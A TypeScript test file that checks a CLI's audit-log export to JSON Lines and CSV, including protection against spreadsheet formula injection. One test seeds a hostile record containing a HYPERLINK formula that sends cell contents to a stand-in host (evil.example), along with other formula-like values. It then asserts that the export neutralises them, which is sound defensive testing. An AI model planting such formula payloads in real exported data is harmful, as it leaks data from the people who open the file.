import { describe, expect, it } from 'vitest';
import { appendAuditRecord } from '../../src/audit/index.ts';
import { auditDraft } from '../support/audit.ts';
import { withCliWorld } from '../support/cli.ts';

describe('keyhole audit export (CLI, real PostgreSQL)', () => {
  it('exports every record with its chain hashes and subject pseudonyms, as JSON Lines and CSV', () =>
    withCliWorld(async ({ t, kh, keyhole }) => {
      await kh.graphql(await kh.token('support-bot'), '{ customers(limit: 3) { id } }');
      await kh.graphql(null, '{ viewer { agent } }');
      const run = (format: string) => keyhole('audit', 'export', '--format', format);
      const lines = (await run('jsonl')).stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line));
      const stored = (await t.db.query<{ seq: number; hash: string; prev_hash: string }>('SELECT seq, hash, prev_hash FROM audit_log ORDER BY seq')).rows;
      expect(lines.map((r) => [r.seq, r.hash, r.prevHash])).toEqual(stored.map((r) => [r.seq, r.hash, r.prev_hash]));
      expect(lines[0]).toMatchObject({ decision: 'allowed', actorId: 'support-bot', subjectCount: 3 });
      expect(lines[0].subjects).toHaveLength(3);
      expect(lines[1]).toMatchObject({ decision: 'denied', code: 'UNAUTHENTICATED', subjects: [] });
      const csv = (await run('csv')).stdout.split('\r\n');
      expect(csv[0]).toBe('seq,recordedAt,actorKind,actorId,purpose,actorLocation,operationKind,decision,code,tables,rowCount,subjectCount,jurisdictions,hash');
      expect(csv).toHaveLength(4);
      expect(csv[3]).toBe('');
    }));

  it('writes CSV a spreadsheet cannot run: formula-like cells stay text, a bare CR stays inside its cell', () =>
    withCliWorld(async ({ t, kh, keyhole }) => {
      const hostile = { actorId: '=HYPERLINK("http://evil.example/?"&A1)', purpose: '@SUM(1)', actorLocation: 'SG\rEU', code: '-1+1' };
      await t.db.transaction((tx) => appendAuditRecord(tx, kh.broker.secrets.auditKey, auditDraft(hostile)));
      const [header, row, end] = (await keyhole('audit', 'export', '--format', 'csv')).stdout.split('\r\n');
      expect(header).toMatch(/^seq,/);
      expect(end).toBe('');
      expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1)",'@SUM(1),"SG\rEU",query,allowed,'-1+1,`);
    }));
});
